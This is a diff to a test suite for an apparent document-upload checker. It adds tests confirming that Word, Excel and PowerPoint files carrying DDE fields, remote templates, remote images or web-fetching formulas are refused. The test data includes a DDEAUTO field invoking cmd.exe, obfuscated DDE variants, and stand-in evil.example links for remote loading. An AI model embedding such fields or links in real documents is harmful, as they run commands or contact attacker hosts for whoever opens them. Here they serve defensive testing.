@@ -76,6 +76,19 @@ def relations_part(kind: str, target: str) -> str:
     )
 
 
+def field_part(*instruction: str) -> str:
+    """A part of a Word document with one field, its instruction in pieces."""
+    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instruction)
+    return (
+        '<w:ftr xmlns:w="w"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>'
+    )
+
+
+def simple_field(instruction: str) -> str:
+    return f'<w:ftr xmlns:w="w"><w:p><w:fldSimple w:instr="{instruction}"/></w:p></w:ftr>'
+
+
 def archive(*members: tuple[str | zipfile.ZipInfo, str | bytes]) -> bytes:
     target = io.BytesIO()
     with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
@@ -417,7 +430,10 @@ def test_a_directory_of_parts_is_not_read_when_it_is_huge(monkeypatch: pytest.Mo
         ("word/_rels/a.rels", relations_part(f"{RELATIONS}/oleObject", "file.bin")),
         ("word/_rels/a.rels", relations_part(f"{RELATIONS}/oleOb&#106;ect", "https://evil.example/a")),
         ("word/_rels/a.rels", relations_part(f"{RELATIONS}/externalLinkPath", "b.xlsx")),
-        ("word/_rels/a.rels", relations_part(f"{RELATIONS}/attachedTemplate", "https://evil.example/a.dotm")),
+        ("word/footer1.xml", field_part(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
+        ("word/comments.xml", field_part("D", "D", "E excel")),
+        ("word/a.xml", field_part("PAGE").replace("PAGE", "d&#100;e excel")),
+        ("word/a.xml", simple_field("dde excel")),
     ],
 )
 def test_a_document_with_active_parts_is_refused(name: str, data: str | bytes) -> None:
@@ -441,6 +457,75 @@ def test_a_document_with_active_parts_is_refused(name: str, data: str | bytes) -
 def test_active_content_types_are_refused(kind: str) -> None:
     types = f'<Override PartName="/word/a.xml" ContentType="{kind}"/>'
     assert code_of("a.docx", office("docx", types=types)) == "file_active"
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        *(
+            ("word/_rels/a.rels", relations_part(f"{RELATIONS}/{kind}", target))
+            for kind, target in [
+                ("attachedTemplate", "https://evil.example/a.dotm"),
+                ("attachedTemplate", "file://server/share/a.dotm"),
+                ("attachedTemplate", "\\\\server\\share\\a.dotm"),
+                ("image", "https://evil.example/a.png"),
+                ("image", "HTTP&#58;//evil.example/a.png"),
+                ("image", "file:///C:/a.png"),
+                ("frame", "https://evil.example/a.htm"),
+                ("video", "https://evil.example/a.mp4"),
+                ("subDocument", "b.docx"),
+                ("anything", "x"),
+            ]
+        ),
+        (
+            "ppt/slides/_rels/slide1.xml.rels",
+            relations_part(f"{RELATIONS}/image", "//evil.example/a.png").replace(
+                ' TargetMode="External"', ""
+            ),
+        ),
+        ("word/header1.xml", field_part(' INCLUDEPICTURE "https://evil.example/a.png" \\d')),
+        ("word/header1.xml", field_part("LINK Excel.Sheet.12 a.xlsx")),
+        ("word/header1.xml", simple_field("includetext a.docx")),
+        (
+            "word/a.vml",
+            '<xml xmlns:v="v"><v:shape><v:imagedata src="https://evil.example/a"/></v:shape></xml>',
+        ),
+        (
+            "xl/worksheets/sheet1.xml",
+            '<worksheet><f>_xlfn.WEBSERVICE ("https://evil.example")</f></worksheet>',
+        ),
+        ("xl/worksheets/sheet1.xml", '<worksheet><f>_xlfn.IMAGE("https://evil.example")</f></worksheet>'),
+    ],
+)
+def test_a_document_that_loads_from_elsewhere_is_refused(name: str, data: str) -> None:
+    assert code_of("a.docx", office("docx", (name, data))) == "file_remote"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        field_part(" PAGE "),
+        field_part('HYPERLINK "https://npo.example/"'),
+        simple_field("LINKED"),
+        "<w>fld</w>",
+    ],
+)
+def test_ordinary_fields_are_everyday(data: str) -> None:
+    content = office("docx", ("word/footer1.xml", data))
+    assert uploads.check("a.docx", content).content == content
+
+
+@pytest.mark.parametrize("brand", [b"heic", b"heix", b"hevc", b"mif1", b"avif"])
+@pytest.mark.parametrize("name", ["IMG_0001.HEIC", "IMG_0001.jpg"])
+def test_a_phones_picture_format_is_refused_with_the_way_to_jpeg(name: str, brand: bytes) -> None:
+    assert code_of(name, b"\0\0\0\x18ftyp" + brand + b"\0\0\0\0") == "file_heic"
+
+
+def test_browsers_offer_exactly_the_kinds_that_are_taken() -> None:
+    offered = uploads.ACCEPT.split(",")
+    assert {one for one in offered if one.startswith(".")} == {f".{extension}" for extension in uploads.KINDS}
+    assert {one for one in offered if not one.startswith(".")} == set(uploads.KINDS.values())
+    assert "hei" not in uploads.ACCEPT
 
 
 @pytest.mark.parametrize(
